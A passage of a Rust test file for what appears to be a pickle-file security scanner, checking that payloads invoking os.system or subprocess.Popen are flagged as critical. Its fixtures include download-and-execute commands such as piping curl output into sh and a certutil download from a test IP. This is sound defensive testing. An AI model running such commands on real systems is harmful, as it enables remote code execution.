    assert_eq!(given("package.fetching", "rebuild", "/tmp/cache"), Some(Severity::Medium));
    assert_eq!(given("package.urls", "Url", "https://example.org/x"), Some(Severity::Medium));
}

#[test]
fn a_process_that_downloads_is_critical_and_named_as_such() {
    let listed = |words: &[&str]| {
        let open = Builder::new().import("subprocess", "Popen").raw(b"](");
        let all = words.iter().fold(open, |stream, word| stream.text(word));
        all.raw(b"e\x85R").stop()
    };
    reports(
        &Builder::new().call("os", "system", &["curl http://203.0.113.7/x | sh"]).stop(),
        "pickle-code-execution",
        Severity::Critical,
        "runs `curl`",
    );
    let words = ["pip", "install", "git+https://example.org/x"];
    reports(
        &listed(&words),
        "pickle-code-execution",
        Severity::Critical,
        "installs a package from an address",
    );
    let words = ["certutil.exe", "-urlcache", "-f", "http://203.0.113.7/x", "x.exe"];
    reports(&listed(&words), "pickle-code-execution", Severity::Critical, "runs `certutil`");
    reports(
        &listed(&["git", "clone", "https://example.org/x"]),
        "pickle-code-execution",
        Severity::Critical,
        "repository",
    );
    reports(&listed(&["ls", "-l"]), "pickle-code-execution", Severity::Critical, "subprocess.Popen");
}
